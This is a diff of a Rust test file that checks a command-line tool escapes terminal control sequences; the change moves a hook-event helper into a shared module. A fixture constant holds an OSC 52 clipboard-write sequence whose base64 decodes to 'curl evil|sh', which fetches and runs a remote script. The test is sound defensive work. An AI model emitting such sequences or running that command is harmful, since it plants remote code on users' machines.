@@ -5,10 +5,7 @@
 //! line, set the title, write the clipboard with OSC 52) nor hide what it
 //! is; `--json` keeps it exact. Each test is the attack.
 
-use std::io::Write;
-use std::process::Stdio;
-
-use crate::common::{TestEnv, stderr, stdout};
+use crate::common::{TestEnv, hook_event, stderr, stdout};
 
 /// OSC 52: puts `curl evil|sh` (base64) on the clipboard.
 const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}";
@@ -18,22 +15,6 @@ const CLIPBOARD_SHOWN: &str = r"\e]52;c;Y3VybCBldmlsfHNo\x07";
 fn assert_inert(what: &str, text: &str) {
     let raw: Vec<char> = text.chars().filter(|c| tandem_core::text::needs_escape(*c) && *c != '\n').collect();
     assert!(raw.is_empty(), "{what} prints raw control characters {raw:?}:\n{text}");
-}
-
-/// Records one Claude Code hook event for session `id` the way the agent
-/// does: `tandem hook` with the event's JSON on stdin.
-fn hook_event(env: &TestEnv, id: &str, payload: &serde_json::Value) {
-    let mut child = env
-        .command_in(&env.repo, &["hook"])
-        .env("TANDEM_SESSION_ID", id)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .expect("spawn tandem hook");
-    child.stdin.take().expect("stdin").write_all(payload.to_string().as_bytes()).expect("write payload");
-    let out = child.wait_with_output().expect("tandem hook");
-    assert!(out.status.success(), "{}", stderr(&out));
 }
 
 #[test]
